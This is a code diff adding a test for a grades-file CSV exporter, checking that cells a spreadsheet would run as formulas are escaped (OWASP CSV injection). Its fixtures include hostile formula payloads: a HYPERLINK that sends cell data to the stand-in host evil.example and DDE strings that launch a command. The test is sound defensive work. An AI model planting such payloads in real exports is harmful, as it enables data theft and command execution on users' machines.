@@ -32,6 +32,31 @@ describe('grades files', () => {
     expect(formatGrades(grades, 'csv').split('\n')[0]).toBe('input,sample,rule,grade,grader,gradedAt,probability,design');
   });
 
+  it('writes no cell a spreadsheet would run as a formula (OWASP CSV injection), and reads its own export back exactly (issue 30)', () => {
+    const hostile = [
+      '=HYPERLINK("http://evil.example/?"&A1,"click")',
+      "+1+cmd|' /C calc'!A0",
+      '-2+3',
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      "'=already quoted",
+      "''=twice",
+    ];
+    const grades = hostile.map((text, n) => rec({ id: n + 1, rule: text, grader: text, design: text, probability: 0.5 }));
+    const csv = formatGrades(grades, 'csv');
+    for (const row of csv.trim().split('\n').slice(1)) {
+      // Every text cell that a spreadsheet would read as a formula starts with a quote mark inside its quotes.
+      const cells = row.match(/"(?:[^"]|"")*"|[^,]+|(?<=,)(?=,)/g)!;
+      for (const cell of cells) {
+        const text = cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell;
+        expect(text, row).not.toMatch(/^[=+\-@\t\r]/);
+      }
+    }
+    const back = parseGrades(csv, 'x.csv', 'csv').map((l) => l.grade);
+    expect(back).toEqual(grades.map(({ id: _id, runId: _run, ...g }) => g));
+    // JSONL is not a spreadsheet format: written as given.
+    expect(formatGrades(grades, 'jsonl')).toContain('"grader":"=HYPERLINK');
+  });
+
   it('names the file, line and field of the first bad line', () => {
     const jsonl = (s: string) => () => parseGrades(s, 'g.jsonl', 'jsonl');
     expect(jsonl('\n{"input": 0, "sample": 0, "rule": "a", "grade": "fail", "grader": "x"}\n{"input": -1}')).toThrow(
@@ -42,7 +67,7 @@ describe('grades files', () => {
     expect(jsonl('{"input": 0, "sample": 0, "rule": "a", "grade": "PASS", "grader": "x", "note": 1}')).toThrow(/field "note": unknown field/);
     expect(jsonl('{"input": 0, "sample": 0, "rule": "a", "grade": "pass"}')).toThrow(/field "grader": expected text, found nothing/);
     expect(jsonl('{"input": 0, "sample": 0, "rule": "a", "grade": "pass", "grader": "x", "probability": 2}')).toThrow(
-      /field "probability": expected a number in \(0, 1\]/,
+      /field "probability": expected a number in \[1e-9, 1\]/,
     );
     expect(jsonl('not json')).toThrow(/line 1: expected one JSON object per line/);
     expect(jsonl('[1]')).toThrow(/line 1: expected a JSON object/);
